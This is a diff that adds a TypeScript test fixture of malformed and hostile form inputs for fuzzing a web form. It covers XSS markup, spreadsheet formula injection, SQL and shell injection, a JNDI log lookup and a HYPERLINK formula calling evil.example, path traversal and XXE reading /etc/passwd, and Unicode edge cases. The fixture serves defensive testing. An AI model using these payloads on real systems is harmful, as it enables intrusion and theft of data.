@@ -1,0 +1,166 @@
+/**
+ * Texts that break programs: what attackers type into forms, and what keyboards, spreadsheets and other programs produce
+ * by accident. Every entry is short; the long ones have a list of their own.
+ *
+ * Whatever asks a server once for each entry takes the groups that matter to it, so that the tests stay fast.
+ */
+
+export const markup = {
+  'a script': '<script>window.wasRun=1</script>',
+  'a script that ends what it stands in':
+    '"\'`></title></textarea></style></script><script>window.wasRun=1</script>',
+  'an image with a handler': '<img src=x onerror=window.wasRun=1>',
+  'a drawing with a handler': '<svg/onload=window.wasRun=1>',
+  'a handler for an attribute with double quotes': '" autofocus onfocus="window.wasRun=1',
+  'a handler for an attribute with single quotes': "' autofocus onfocus='window.wasRun=1",
+  'a handler for an attribute without quotes': 'x onmouseover=window.wasRun=1',
+  'a handler after a backtick': '`onclick=window.wasRun=1',
+  'a script address': 'javascript:window.wasRun=1',
+  'a script address with white space': ' java\tscript:window.wasRun=1',
+  'a data address': 'data:text/html,<script>window.wasRun=1</script>',
+  'a frame': '<iframe srcdoc="<script>parent.wasRun=1</script>">',
+  'a form': '</form><form action=https://evil.example><input name=last_name>',
+  'a style': '<style>*{display:none}</style>',
+  'a base address': '<base href=https://evil.example/>',
+  'a comment': '<!-- --!><img src=x onerror=window.wasRun=1>',
+  'a CDATA section': ']]><![CDATA[<script>window.wasRun=1</script>',
+  'a mutating table': '<table><a href=x><svg><style><!--</style><img src=x onerror=window.wasRun=1>',
+  entities: '&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp &notanentity;',
+  'full-width brackets': '＜script＞window.wasRun=1＜/script＞',
+};
+
+const formulas = {
+  'a formula': '=1+1',
+  'a formula that runs a program': "=cmd|' /C calc'!A0",
+  'a formula that calls home': '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  'a formula by plus': '+1+1',
+  'a formula by minus': '-2+3+cmd',
+  'a formula by at': '@SUM(1+1)*cmd',
+  'a formula after a tab': '\t=1+1',
+  'a formula after a carriage return': '\r=1+1',
+  'a formula after a line feed': '\n=1+1',
+  'a formula after spaces': '  \u00A0=1+1',
+  'a formula in full width': '＝1+1',
+  'a formula after a byte order mark': '\uFEFF=1+1',
+  'quotes and commas': '","=1+1","',
+  'a quote alone': '"',
+  'an apostrophe': "'",
+};
+
+export const controls = {
+  NUL: 'a\0b',
+  'every control character':
+    Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007F\u0085\u009F',
+  'an escape sequence of a terminal': '\u001B[2J\u001B]0;owned\u0007\u009B31m',
+  'line breaks of every kind': 'a\nb\rc\r\nd\u2028e\u2029f\u0085g\vh\fi',
+  'a line feed at the end': 'a\n',
+  'spaces of every kind': 'a\u00A0b\u1680c\u2003d\u202Fe\u3000f',
+  'a right-to-left override': 'photo\u202Egpj.exe',
+  'direction isolates left open': '\u2066\u2067\u2068a',
+  'zero width': 'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
+  'a soft hyphen': 'a\u00ADb',
+  'tag characters': 'a\u{E0041}\u{E007F}',
+  'private and unassigned': '\uE000\u{F0000}\uFDD0\uFFFE\uFFFF\u{10FFFF}',
+};
+
+const scripts = {
+  'a name in Telugu': 'శ్రీనివాస్',
+  'a name in Hindi': 'श्री क्षत्रिय',
+  'a name in Arabic': 'محمد',
+  'a decomposed accent': 'Zoe\u0301',
+  'a composed accent': 'Zo\u00E9',
+  'many combining marks': `Z${'\u0300\u0316\u0489'.repeat(12)}`,
+  'a mark with nothing before it': '\u0301a',
+  'a family in one emoji': '👩‍👩‍👧‍👦',
+  'a skin tone': '🧑🏽‍🚀',
+  'a flag, and half of one': '🇮🇳🇮',
+  'a keycap': '1️⃣',
+  'letters beyond the first plane': '𝒜𝓈𝒽𝒶 𐐨',
+  'look-alike letters': 'раураl',
+  'a ligature that grows': 'ﷺﬃ',
+  'a dotted capital I': 'İstanbul',
+  'a half emoji at the start': '\uDE00a',
+  'a half emoji at the end': 'a\uD83D',
+  'the halves in the wrong order': '\uDE00\uD83D',
+  'a replacement character': '\uFFFD',
+};
+
+export const protocols = {
+  'a header smuggled in': 'a\r\nSet-Cookie: owned=1\r\n\r\n<script>window.wasRun=1</script>',
+  'a header smuggled in by escapes': 'a%0d%0aSet-Cookie:%20owned=1',
+  'a mail header': 'asha@example.com\r\nBcc: all@example.com',
+  'an escape': '100%',
+  'an escape cut short': '%E0%A4%A',
+  'an escape of no character': '%ED%A0%80%FF',
+  'an escape of NUL': '%00',
+  'escapes of escapes': '%253Cscript%253E',
+  'separators of a form': 'a&oid=00D000000000001AAA&b=c;d+e#f?g',
+  'SQL that drops a table': "'); DROP TABLE leads; --",
+  'SQL that is always true': "' OR '1'='1",
+  'SQL wildcards': '%_*?[a-z]',
+  'a template': '${7*7} {{7*7}} #{7*7} <%= 7*7 %>',
+  'a replacement pattern': "$& $1 $` $' $$",
+  'a format': '%s %d %n %o',
+  'a shell command': '; $(touch owned) `id` | cat /etc/passwd',
+  'a log lookup': '${jndi:ldap://evil.example/a}',
+  'a path out of the folder': '../../../../etc/passwd',
+  'a Windows path out of the folder': '..\\..\\windows\\win.ini',
+  'a device name': 'CON',
+  'an entity of XML': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
+  JSON: '{"version":1,"id":null}',
+  'an expression that takes for ever': `${'a'.repeat(40)}!`,
+};
+
+const words = {
+  'a prototype': '__proto__',
+  'a constructor': 'constructor',
+  'a method of every object': 'toString',
+  'a method of forms': 'submit',
+  'a missing value': 'undefined',
+  'a null': 'null',
+  'not a number': 'NaN',
+  'a huge number': '1e999',
+  'a negative number': '-1',
+  'a number in hexadecimal': '0x10',
+  'the mark of spam': '[possible spam] no',
+  'the name of the newsletter': 'Newsletter subscriber',
+};
+
+const contacts = {
+  'an address with a tag': 'asha+tag@example.com',
+  'an address with a script': 'asha"><svg/onload=window.wasRun=1>@example.com',
+  'an address with a query': 'asha@example.com?bcc=all@example.com',
+  'an address of letters from elsewhere': 'అషా@ఉదాహరణ.భారత్',
+  'two addresses': 'asha@example.com,ravi@example.com',
+  'an address that is a formula': '=asha@example.com',
+  'a number with a country code': '+91 98765-43210',
+  'a number in other digits': '९८७६५४३२१०',
+  'a number with a script': '98765<script>43210',
+  'a number with hidden marks': '\u202A9876543210\u202C',
+};
+
+/** By name. Sparse on purpose: each is there for a reason of its own. */
+export const corpus: Readonly<Record<string, string>> = {
+  ...markup,
+  ...formulas,
+  ...controls,
+  ...scripts,
+  ...protocols,
+  ...words,
+  ...contacts,
+  nothing: '',
+  'spaces alone': '   ',
+};
+
+export const entries = Object.entries(corpus);
+
+/** As long as a field takes, in the characters that take the most room on the way. */
+export const fullLength = (length: number) => ({
+  brackets: '<'.repeat(length),
+  'letters of three bytes': '€'.repeat(length),
+  emoji: '😀'.repeat(length / 2),
+  'line breaks': `${'\n'.repeat(length / 2 - 1)}ab`,
+  'combining marks': `a${'\u0301'.repeat(length - 1)}`,
+});
+
+export const MEGABYTE = 1_048_576;
